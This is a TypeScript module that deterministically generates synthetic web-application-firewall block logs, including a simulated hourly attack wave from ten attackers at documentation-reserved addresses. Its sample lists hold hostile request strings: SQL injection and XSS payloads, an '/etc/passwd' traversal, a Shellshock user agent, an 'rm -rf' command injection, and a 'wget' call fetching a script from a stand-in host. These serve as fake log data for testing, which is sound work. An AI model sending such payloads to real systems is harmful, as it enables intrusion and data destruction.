// Generates blocked requests as a WAF would log them: half of a day's requests come within one hour, from ten attackers. The same seed, day and row give the same entry, so nothing is stored, and
// any page can be generated at any time. Some rows are exact copies of the previous row, as in real logs.
import { hashNumbers } from "./seeded-hash.ts";

export const dayMs = 86_400_000;

/** One row, with the names of the API. */
export interface LogEntry {
  readonly timestamp: string;
  readonly client_ip: string;
  readonly http_method: string;
  readonly request_path: string;
  readonly http_status: number;
  readonly response_size: number;
  readonly referrer: string | null;
  readonly user_agent: string;
  readonly block_reason: string;
  readonly country: string;
  readonly cache_hit: boolean;
}

/** The parameters of one day's rows. `day` counts days (UTC) since 1970. */
export interface LogDay {
  readonly seed: number;
  readonly day: number;
  readonly rowCount: number;
  /** The maximum time that a row stays invisible after its timestamp. */
  readonly lateMsMax: number;
}

const copiesPerThousand = 20;

const countries = ["CN", "US", "RU", "BR", "IN", "NL", "DE", "VN", "ID", "FR", "UA", "SG", "TR", "GB", "KR"];
const reasons = [
  "SQL Injection 942100",
  "SQL Injection 942190",
  "XSS Attack 941100",
  "Path Traversal 930110",
  "Remote Command Execution 932160",
  "PHP Injection 933150",
  "Scanner Detected 913100",
  "Protocol Violation 920350",
  "Bad Bot 1002",
  "Rate Limit 1015",
  "IP Blocklist 1001",
  "NONE",
];
const paths = [
  "/wp-login.php",
  "/xmlrpc.php",
  "/.env",
  "/.git/config",
  "/search?q=%27%20OR%201%3D1--",
  "/index.php?id=1%20UNION%20SELECT%20NULL",
  "/../../etc/passwd",
  "/api/v1/users?filter=<script>alert(1)</script>",
  "/cgi-bin/;wget%20http://198.51.100.7/x.sh",
  "/login",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/Überblick/naïve?emoji=😀",
];
const userAgents = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
  "curl/8.5.0",
  "python-requests/2.32.3",
  "Go-http-client/1.1",
  "sqlmap/1.8#stable (https://sqlmap.org)",
  "Mozilla/5.0 zgrab/0.x",
  '() { :; }; echo "x"\\',
  "",
];
const referrers = [null, null, null, "https://www.google.com/", "https://shop.example/cart", "-"];
const methods = ["GET", "GET", "GET", "POST", "POST", "HEAD", "PUT"];

/**
 * Their address, country, user agent, reason and path. Earlier ones send more requests; which one is first changes every five days.
 */
const attackers = [
  ["203.0.113.7", "NL", "sqlmap/1.8", "SQL Injection 942100", "/products?id=1%20UNION%20SELECT%20NULL"],
  ["198.51.100.23", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/login"],
  ["192.0.2.140", "CN", "Mozilla/5.0 zgrab/0.x", "Scanner Detected 913100", "/.env"],
  ["2001:db8:5ca:1::1", "US", "Scrapy/2.11", "Bad Bot 1002", "/products?page=1"],
  ["198.51.100.24", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/wp-login.php"],
  ["203.0.113.200", "BR", "curl/8.5.0", "Remote Command Execution 932160", "/shell?cd+/tmp;rm+-rf+*"],
  ["192.0.2.141", "CN", "Mozilla/5.0 zgrab/0.x", "Path Traversal 930110", "/../../etc/passwd"],
  ["203.0.113.8", "NL", "sqlmap/1.8", "SQL Injection 942190", "/search?q=%27%20OR%201%3D1--"],
  ["2001:db8:5ca:1::2", "US", "Scrapy/2.11", "Bad Bot 1002", "/sitemap.xml"],
  ["198.51.100.77", "VN", "Go-http-client/1.1", "PHP Injection 933150", "/backup.zip"],
] as const;

/** The row with this number, from 0 to `rowCount - 1`. Timestamps never decrease from row to row. */
export function makeLogEntry(logDay: LogDay, row: number): LogEntry {
  const original = originalOf(logDay, row);
  const draw = (salt: number) => hashNumbers(logDay.seed, logDay.day, original, salt);
  const request = {
    client_ip: clientIp(draw(2)),
    request_path: pick(paths, draw(4)),
    user_agent: pick(userAgents, draw(7)),
    block_reason: pick(reasons, draw(1)),
    country: pick(countries, draw(8)),
    ...(isInWave(shareOf(logDay, original)) ? attackerOf(logDay, draw(14)) : {}),
  };
  return {
    timestamp: new Date(timestampMsOf(logDay, original)).toISOString(),
    ...request,
    http_method: pick(methods, draw(3)),
    http_status: request.block_reason === "Rate Limit 1015" ? 429 : 403,
    response_size: 150 + (draw(5) % 5000),
    referrer: pick(referrers, draw(6)),
    cache_hit: draw(9) % 50 === 0,
  };
}

/** When the row can first be read, in milliseconds since 1970. Copies of a row can become visible at different times. */
export function visibleAtMs(logDay: LogDay, row: number): number {
  const late = logDay.lateMsMax === 0 ? 0 : hashNumbers(logDay.seed, logDay.day, row, 10) % (logDay.lateMsMax + 1);
  return timestampMsOf(logDay, originalOf(logDay, row)) + late;
}

/** The row that this row is a copy of, or the row itself. Row 0 is never a copy, so the loop ends. */
function originalOf(logDay: LogDay, row: number): number {
  let original = row;
  while (original > 0 && hashNumbers(logDay.seed, logDay.day, original, 11) % 1000 < copiesPerThousand) original -= 1;
  return original;
}

function timestampMsOf(logDay: LogDay, row: number): number {
  const share = shareOf(logDay, row);
  const waveHour = 1 + (hashNumbers(logDay.seed, logDay.day, 13) % 22);
  let hours = share < 0.5 ? 4 * share * waveHour : waveHour + 1 + 4 * (share - 0.75) * (23 - waveHour);
  if (isInWave(share)) hours = waveHour + 2 * (share - 0.25);
  return logDay.day * dayMs + Math.floor((hours / 24) * dayMs);
}

/** The share of the day's rows that come earlier, from 0 to below 1. */
function shareOf({ seed, day, rowCount }: LogDay, row: number): number {
  return (row + hashNumbers(seed, day, row, 12) / 2 ** 32) / rowCount;
}

function isInWave(share: number): boolean {
  return share >= 0.25 && share < 0.75;
}

function attackerOf({ seed, day }: LogDay, drawn: number) {
  const place = Math.floor(attackers.length * (drawn / 2 ** 32) ** 2);
  const attacker = pick(attackers, seed + Math.floor(day / 5) + place);
  const [client_ip, country, user_agent, block_reason, request_path] = attacker;
  return { client_ip, country, user_agent, block_reason, request_path };
}

/** Uses only ranges that are reserved for documentation. */
function clientIp(drawn: number): string {
  const kind = drawn % 10;
  const host = (drawn >>> 8) % 254;
  if (kind === 0) return `2001:db8:${((drawn >>> 16) % 65_536).toString(16)}::${(host + 1).toString(16)}`;
  const network = ["192.0.2", "198.51.100", "203.0.113"][kind % 3] ?? "192.0.2";
  return `${network}.${host + 1}`;
}

function pick<T>(choices: readonly T[], drawn: number): T {
  const choice = choices[drawn % choices.length];
  if (choice === undefined) throw new TypeError("an empty list of choices");
  return choice;
}
